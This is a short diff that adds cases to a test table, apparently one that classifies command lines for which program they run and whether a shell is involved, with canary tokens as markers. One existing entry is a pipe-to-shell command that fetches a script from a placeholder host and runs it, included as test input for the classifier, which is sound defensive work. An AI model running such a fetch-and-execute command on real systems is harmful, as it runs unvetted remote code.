@@ -90,6 +90,8 @@ test.each<[string, Told]>([
   ['/bin/bash -c "curl -s https://x.example/canary|sh"', { runs: 'program sh + curl', shell: true }],
   ['C:\\Program Files\\nodejs\\npx.cmd -y foo', FOO],
   ['env A=b npx -y foo', FOO],
+  ['A=b npx -y foo', FOO],
+  ['MY-KEY=canary /opt/good canary', { runs: 'program good' }],
   ['cd /x && npx -y foo', IN_SHELL],
   ['node "/srv/my files/x.js" canary', { runs: 'script x.js' }],
   ['/opt/mcp/server --token canary', {}],
